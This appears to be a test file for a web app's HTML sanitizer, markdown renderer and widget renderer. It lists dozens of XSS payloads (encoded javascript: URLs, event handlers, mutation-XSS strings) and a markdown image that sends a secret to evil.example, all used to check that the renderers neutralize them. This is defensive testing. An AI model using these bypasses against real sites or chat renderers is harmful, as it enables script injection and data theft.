// XSS and sanitizing tests for render/safe.ts and render/markdown.ts, and for the widget renderer
// fed the same payloads through every place a widget puts untrusted text or URLs.
import { JSDOM } from "jsdom";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { renderMarkdown, setMarkdown } from "../../src/render/markdown";
import { createHtmlSanitizer, safeColor, safeCssLength, safeUrl, sanitizeHtml } from "../../src/render/safe";
import { renderWidget, type WidgetHost, type WidgetRoot } from "../../src/widgets";

declare global {
  interface Window {
    __xss?: unknown;
  }
}

// Each payload sets window.__xss if it ever runs.
const HTML_PAYLOADS: string[] = [
  `<img src=x onerror="window.__xss=1">`,
  `<script>window.__xss=1</script>`,
  `<svg onload="window.__xss=1">`,
  `<svg><script>window.__xss=1</script></svg>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="javascript:window.__xss=1"></iframe>`,
  `<a href="javascript:window.__xss=1">a</a>`,
  `<a href="JaVaScRiPt:window.__xss=1">a</a>`,
  `<a href=" javascript:window.__xss=1">a</a>`,
  `<a href="jav&#x09;ascript:window.__xss=1">a</a>`,
  `<a href="jav&#x0A;ascript:window.__xss=1">a</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">a</a>`,
  `<a href="javascript&colon;window.__xss=1">a</a>`,
  `<a href="vbscript:msgbox(1)">a</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">a</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIj4=">`,
  `<body onload="window.__xss=1">`,
  `<div style="background:url(javascript:window.__xss=1)">a</div>`,
  `<div style="width: expression(window.__xss=1)">a</div>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">`,
  `<form action="javascript:window.__xss=1"><button>a</button></form>`,
  `<button formaction="javascript:window.__xss=1">a</button>`,
  `<input autofocus onfocus="window.__xss=1">`,
  `<details open ontoggle="window.__xss=1"><summary>a</summary></details>`,
  `<object data="javascript:window.__xss=1"></object>`,
  `<embed src="javascript:window.__xss=1">`,
  `<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">`,
  `<base href="javascript:/">`,
  `<video><source onerror="window.__xss=1"></video>`,
  `<marquee onstart="window.__xss=1">a</marquee>`,
  `"><script>window.__xss=1</script>`,
  `<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>`,
  `<svg><a xlink:href="javascript:window.__xss=1"><text>a</text></a></svg>`,
  `<img src="javascript:window.__xss=1">`,
  `<link rel="stylesheet" href="javascript:window.__xss=1">`,
  `<style>@import 'javascript:window.__xss=1';</style>`,
  `<template><script>window.__xss=1</script></template>`,
  `<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s"></animate></svg>`,
  `<a href="\u0001javascript:window.__xss=1">a</a>`,
  `<img srcset="javascript:window.__xss=1 1x">`,
  `<a href="java\u0000script:window.__xss=1">a</a>`,
  `<IMG SRC=JaVaScRiPt:window.__xss=1>`,
  `<img src="x" onerror\u000b="window.__xss=1">`,
];

const MARKDOWN_PAYLOADS: string[] = [
  `[click](javascript:window.__xss=1)`,
  `[click](JAVASCRIPT:window.__xss=1)`,
  `[click](  javascript:window.__xss=1  )`,
  `[click](jav&#x09;ascript:window.__xss=1)`,
  `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`,
  `![img](javascript:window.__xss=1)`,
  `![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIj4=)`,
  `<javascript:window.__xss=1>`,
  `[a](vbscript:msgbox(1))`,
  `[a]: javascript:window.__xss=1\n\n[link][a]`,
  "```html\n<script>window.__xss=1</script>\n```",
  ...HTML_PAYLOADS,
];

const DANGEROUS_URL = /^(javascript|vbscript|data|file|about|blob):/i;

function urlIsDangerous(value: string, kind: "image" | "link"): boolean {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: strips what a URL parser ignores
  const probe = value.replace(/[\u0000-\u0020\u007f-\u009f]/g, "").toLowerCase();
  if (kind === "image" && /^data:image\/(png|jpeg|jpg|gif|webp)[;,]/.test(probe)) return false;
  return DANGEROUS_URL.test(probe);
}

/** Fails the test if anything in `root` could run script. */
function expectInert(root: ParentNode): void {
  const forbidden = root.querySelectorAll("script, iframe, frame, object, embed, base, meta, link, style, form, template, noscript");
  expect(Array.from(forbidden).map((e) => e.outerHTML)).toEqual([]);
  for (const el of Array.from(root.querySelectorAll("*"))) {
    for (const name of el.getAttributeNames()) {
      const value = el.getAttribute(name) ?? "";
      expect(name.toLowerCase().startsWith("on"), `${name} on <${el.tagName}>`).toBe(false);
      if (["href", "xlink:href", "action", "formaction", "data", "poster", "background"].includes(name.toLowerCase())) {
        expect(urlIsDangerous(value, "link"), `${name}="${value}"`).toBe(false);
      }
      if (name.toLowerCase() === "src") expect(urlIsDangerous(value, "image"), `src="${value}"`).toBe(false);
      expect(name.toLowerCase()).not.toBe("srcdoc");
      expect(name.toLowerCase()).not.toBe("srcset");
      if (name.toLowerCase() === "style") expect(value).not.toMatch(/url\(|expression\(|javascript:/i);
    }
  }
}

/** Attaches `root`, lets any event handler fire, then checks nothing ran. */
async function expectNothingRan(root: Element): Promise<void> {
  document.body.append(root);
  await new Promise((r) => setTimeout(r, 10));
  expect(window.__xss).toBeUndefined();
  root.remove();
}

beforeEach(() => {
  delete window.__xss;
});
afterEach(() => {
  document.body.replaceChildren();
});

describe("safeUrl", () => {
  it.each([
    ["https://example.com/a.png", "image"],
    ["http://example.com/a?b=1&c=2", "link"],
    ["/pam.png", "image"],
    ["relative/path.png", "image"],
    ["//cdn.example.com/x.png", "image"],
    ["#anchor", "link"],
    ["mailto:someone@example.com", "link"],
    ["data:image/png;base64,iVBORw0KGgo=", "image"],
    ["data:image/jpeg;base64,/9j/4AAQ", "image"],
    ["data:image/webp;base64,UklGRg==", "image"],
    ["data:image/gif;base64,R0lGODlh", "image"],
  ] as const)("allows %s as %s", (url, kind) => {
    expect(safeUrl(url, kind)).toBe(url);
  });

  it.each([
    ["javascript:alert(1)", "link"],
    ["JAVASCRIPT:alert(1)", "link"],
    [" javascript:alert(1)", "link"],
    ["\tjavascript:alert(1)", "link"],
    ["java\tscript:alert(1)", "link"],
    ["java\nscript:alert(1)", "link"],
    ["java\u0000script:alert(1)", "link"],
    ["jav&#x09;ascript:alert(1)", "link"],
    ["jav&#9;ascript:alert(1)", "link"],
    ["&#106;avascript:alert(1)", "link"],
    ["javascript&colon;alert(1)", "link"],
    ["vbscript:msgbox(1)", "link"],
    ["data:text/html;base64,PHNjcmlwdD4=", "link"],
    ["data:text/html,<script>alert(1)</script>", "image"],
    ["data:image/svg+xml;base64,PHN2Zz4=", "image"],
    ["data:image/svg+xml,<svg onload=alert(1)>", "image"],
    ["data:image/png;base64,iVBORw0KGgo=", "link"],
    ["file:///etc/passwd", "image"],
    ["blob:https://example.com/uuid", "image"],
    ["mailto:someone@example.com", "image"],
    ["\\\\evil\\share", "image"],
    ["", "link"],
  ] as const)("rejects %j as %s", (url, kind) => {
    expect(safeUrl(url, kind)).toBeNull();
  });

  it("rejects non-strings", () => {
    expect(safeUrl(undefined, "link")).toBeNull();
    expect(safeUrl({ toString: () => "https://x" }, "link")).toBeNull();
  });
});

describe("CSS value whitelists", () => {
  it("accepts lengths and converts numbers to pixels", () => {
    expect(safeCssLength(44)).toBe("44px");
    expect(safeCssLength(0)).toBe("0");
    expect(safeCssLength("50%")).toBe("50%");
    expect(safeCssLength("1.5rem")).toBe("1.5rem");
    expect(safeCssLength("12")).toBe("12px");
    expect(safeCssLength("auto")).toBe("auto");
    expect(safeCssLength("calc(100% - 8px)")).toBe("calc(100% - 8px)");
    expect(safeCssLength("min(100%, 320px)")).toBe("min(100%, 320px)");
  });

  it.each([
    "url(javascript:alert(1))",
    "expression(alert(1))",
    "calc(expression(alert(1)))",
    "10px; background:url(x)",
    "10px}body{background:red",
    "calc(1px + url(x))",
    "var(--x, url(x))",
    "1e999999px;",
    Number.NaN,
    Number.POSITIVE_INFINITY,
    {},
  ])("rejects length %j", (v) => {
    expect(safeCssLength(v)).toBeNull();
  });

  it("accepts colours", () => {
    for (const c of [
      "#fff",
      "#ffffffaa",
      "rgb(0 0 0 / 0.5)",
      "rgba(0,0,0,.5)",
      "hsl(120deg 50% 50%)",
      "oklch(0.7 0.1 200)",
      "white",
      "transparent",
      "var(--brand)",
    ]) {
      expect(safeColor(c), c).toBe(c);
    }
  });

  it.each([
    "url(javascript:alert(1))",
    "expression(alert(1))",
    "red; background: url(x)",
    "rgb(url(x))",
    "rgb(0 0 0) url(x)",
    "#ggg",
    "notacolor",
    "javascript:alert(1)",
    "var(--x, url(x))",
  ])("rejects colour %j", (v) => {
    expect(safeColor(v)).toBeNull();
  });
});

describe("sanitizeHtml", () => {
  it.each(HTML_PAYLOADS)("neutralizes %s", async (payload) => {
    const host = document.createElement("div");
    host.innerHTML = sanitizeHtml(payload);
    expectInert(host);
    await expectNothingRan(host);
  });

  it.each([
    `<a href="javascript:window.__xss=1">click <b>me</b></a>`,
    `<a href="data:text/html,<script>window.__xss=1</script>">click <b>me</b></a>`,
    `<a href=" jav&#x09;ascript:window.__xss=1">click <b>me</b></a>`,
  ])("makes the text of a link whose URL is unsafe plain text: %s", (payload) => {
    const host = document.createElement("div");
    host.innerHTML = sanitizeHtml(`<p>see ${payload} here</p>`);
    expect(host.querySelector("a")).toBeNull();
    expect(host.querySelector("p > b")?.textContent).toBe("me");
    expect(host.textContent).toBe("see click me here");
  });

  it("keeps harmless markup and opens links safely", () => {
    const host = document.createElement("div");
    host.innerHTML = sanitizeHtml(`<p><b>bold</b> <a href="https://example.com">x</a> <img src="https://example.com/a.png" alt="a"></p>`);
    expect(host.querySelector("b")?.textContent).toBe("bold");
    const a = host.querySelector("a")!;
    expect(a.getAttribute("href")).toBe("https://example.com");
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toBe("noopener noreferrer");
    expect(host.querySelector("img")?.getAttribute("src")).toBe("https://example.com/a.png");
  });
});

describe("renderMarkdown", () => {
  it.each(MARKDOWN_PAYLOADS)("neutralizes %s", async (payload) => {
    const host = document.createElement("div");
    host.innerHTML = renderMarkdown(payload);
    expectInert(host);
    const viaSet = document.createElement("div");
    setMarkdown(viaSet, payload);
    expectInert(viaSet);
    await expectNothingRan(host);
    await expectNothingRan(viaSet);
  });

  it("shows raw HTML as text instead of interpreting it", () => {
    const host = document.createElement("div");
    setMarkdown(host, `Hello <img src=x onerror="window.__xss=1"> world`);
    expect(host.querySelector("img")).toBeNull();
    expect(host.textContent).toContain(`<img src=x onerror="window.__xss=1">`);
  });

  it("renders formatting, code blocks, tables and safe links", () => {
    const host = document.createElement("div");
    setMarkdown(
      host,
      "# Title\n\n**bold** and `code` [site](https://example.com)\n\n```python\nprint('<hi>')\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    );
    expect(host.querySelector("h1")?.textContent).toBe("Title");
    expect(host.querySelector("strong")?.textContent).toBe("bold");
    const code = host.querySelector("pre > code")!;
    expect(code.className).toBe("language-python");
    expect(code.textContent).toContain("print('<hi>')");
    expect(host.querySelectorAll("td")).toHaveLength(2);
    const a = host.querySelector("a")!;
    expect(a.href).toBe("https://example.com/");
    expect(a.rel).toBe("noopener noreferrer");
    expect(a.target).toBe("_blank");
  });

  it("drops unsafe link targets but keeps the link text", () => {
    const host = document.createElement("div");
    setMarkdown(host, "[click me](javascript:window.__xss=1)");
    const a = host.querySelector("a");
    expect(a?.hasAttribute("href") ?? false).toBe(false);
    expect(host.textContent).toContain("click me");
  });

  it("turns a link with an unsafe URL into plain text, keeping safe links next to it", () => {
    const host = document.createElement("div");
    setMarkdown(host, "[click **me**](javascript:window.__xss=1) and [ok](https://example.com)");
    const links = host.querySelectorAll("a");
    expect(links).toHaveLength(1);
    expect(links[0].getAttribute("href")).toBe("https://example.com");
    expect(links[0].textContent).toBe("ok");
    // The dead link's text (and formatting) stays, in place, outside any <a>.
    expect(host.querySelector("p > strong")?.textContent).toBe("me");
    expect(host.textContent?.trim()).toBe("click me and ok");
  });

  // marked passes the text after an inline <code>, <kbd>, <pre> or <script> tag through raw
  // (flagged `escaped`); markdown.ts escapes it like any other text.
  it.each([
    ["<code><img/src=x onerror=window.__xss=1></code>", "<img/src=x onerror=window.__xss=1>"],
    ["a <kbd><img src=x onerror=window.__xss=1></kbd> b", "<img src=x onerror=window.__xss=1>"],
    ["a <pre><img src=x onerror=window.__xss=1></pre> b", "<img src=x onerror=window.__xss=1>"],
    ["a <script><img src=x onerror=window.__xss=1></script> b", "<img src=x onerror=window.__xss=1>"],
  ])("escapes the text after an inline tag: %s", async (source, shown) => {
    const host = document.createElement("div");
    setMarkdown(host, source);
    expect(host.querySelector("img, code, kbd, pre, script")).toBeNull();
    expect(host.textContent).toContain(shown);
    const viaString = document.createElement("div");
    viaString.innerHTML = renderMarkdown(source);
    expect(viaString.querySelector("img")).toBeNull();
    expect(viaString.textContent).toBe(host.textContent);
    await expectNothingRan(host);
  });
});

describe("widgets with hostile values", () => {
  const host: WidgetHost = { colorScheme: "light", onAction: () => undefined };

  function hostileWidget(payload: string): WidgetRoot {
    return {
      type: "Card",
      status: { text: payload, favicon: "javascript:window.__xss=1" },
      confirm: { label: payload, action: { type: "ok" } },
      children: [
        { type: "Title", value: payload },
        { type: "Text", value: payload, color: "url(javascript:window.__xss=1)" },
        { type: "Caption", value: payload },
        { type: "Markdown", value: payload },
        { type: "Badge", label: payload },
        { type: "Button", label: payload, onClickAction: { type: "x" } },
        { type: "Image", src: "javascript:window.__xss=1", alt: payload },
        { type: "Image", src: "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIj4=", alt: payload },
        { type: "Image", src: payload },
        { type: "Label", value: payload, fieldName: "f" },
        { type: "Input", name: "f", placeholder: payload, defaultValue: payload },
        { type: "Select", name: "s", placeholder: payload, options: [{ value: payload, label: payload }] },
        { type: "Checkbox", name: "c", label: payload },
        { type: "RadioGroup", name: "r", options: [{ value: payload, label: payload }] },
        {
          type: "Box",
          background: "url(javascript:window.__xss=1)",
          padding: "expression(window.__xss=1)",
          width: "10px;background:url(javascript:window.__xss=1)",
          radius: "url(x)" as never,
          children: [{ type: "Text", value: payload }],
        },
        { type: "Icon", name: payload as never },
        { type: payload as never } as never,
      ],
    };
  }

  it.each([...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS.slice(0, 6)])("renders %s inertly", async (payload) => {
    const el = renderWidget(hostileWidget(payload), host);
    expectInert(el);
    // Text-like props show the payload literally.
    expect(el.querySelector(".ckw-title")?.textContent).toBe(payload);
    expect(el.querySelector(".ckw-badge")?.textContent).toBe(payload);
    for (const img of Array.from(el.querySelectorAll("img"))) expect(urlIsDangerous(img.getAttribute("src") ?? "", "image")).toBe(false);
    await expectNothingRan(el);
  });

  it("renders a Chart with hostile labels and colours inertly", async () => {
    const payload = `<img src=x onerror="window.__xss=1">`;
    const el = renderWidget(
      {
        type: "Basic",
        children: [
          {
            type: "Chart",
            data: [{ x: payload, v: 1 }],
            series: [{ type: "bar", dataKey: "v", label: payload, color: "url(javascript:window.__xss=1)" }],
            xAxis: { dataKey: "x", labels: { [payload]: payload } },
          } as never,
        ],
      },
      host,
    );
    expectInert(el);
    expect(el.querySelector(".ckw-chart__legend")?.textContent).toContain(payload);
    await expectNothingRan(el);
  });
});

// happy-dom (this suite's DOM) makes DOMPurify misbehave, so there the allowlist walk alone does
// the work. In jsdom (a devDependency: without it this file fails to load) the same payloads also
// go through the DOMPurify layer.

describe("sanitizer layers", () => {
  it("uses only the allowlist walk where DOMPurify fails its self-check (happy-dom)", () => {
    expect(createHtmlSanitizer(window).usesDOMPurify).toBe(false);
  });

  describe("with DOMPurify in jsdom", () => {
    const win = new JSDOM("<!doctype html><body></body>").window as unknown as Window;
    const s = createHtmlSanitizer(win);

    it("passes its self-check", () => {
      expect(s.usesDOMPurify).toBe(true);
    });

    it.each(HTML_PAYLOADS)("neutralizes %s", (payload) => {
      expectInert(s.toFragment(payload));
      const holder = win.document.createElement("div");
      holder.innerHTML = s.toHtml(payload);
      expectInert(holder);
    });

    // jsdom parses like a browser (happy-dom is lenient about malformed end tags like `</scr<`),
    // so the markdown pipeline runs here once more with the page's window being jsdom's.
    it.each([
      ["before <script>a</scr</script> after", "before <script>a</scr</script> after"],
      ["<code><img/src=x onerror=window.__xss=1></code> after", "<code><img/src=x onerror=window.__xss=1></code> after"],
      ["a <kbd>x</b y</kbd> z", "a <kbd>x</b y</kbd> z"],
    ])("renders markdown %j as its text, swallowing nothing", async (source, shown) => {
      vi.resetModules();
      vi.stubGlobal("window", win);
      try {
        const md = await import("../../src/render/markdown");
        const holder = win.document.createElement("div");
        md.setMarkdown(holder, source);
        expect(holder.querySelector("img, script, code, kbd")).toBeNull();
        expect(holder.textContent?.trim()).toBe(shown);
      } finally {
        vi.unstubAllGlobals();
        vi.resetModules();
      }
    });

    it("keeps harmless markup", () => {
      const holder = win.document.createElement("div");
      holder.innerHTML = s.toHtml(`<p><b>bold</b> <a href="https://example.com">x</a></p>`);
      expect(holder.querySelector("b")?.textContent).toBe("bold");
      expect(holder.querySelector("a")?.getAttribute("rel")).toBe("noopener noreferrer");
    });
  });
});

describe("remote images in markdown", () => {
  it("become links instead of loading by themselves; data images still show", () => {
    const html = renderMarkdown("![chart](https://evil.example/?d=secret) ![dot](data:image/png;base64,iVBORw0KGgo=)");
    const box = document.createElement("div");
    box.innerHTML = html;
    expect(box.querySelector('img[src^="https:"]')).toBeNull();
    const link = box.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://evil.example/?d=secret");
    expect(link?.textContent).toContain("chart");
    expect(box.querySelector('img[src^="data:image/png"]')).not.toBeNull();
  });
});
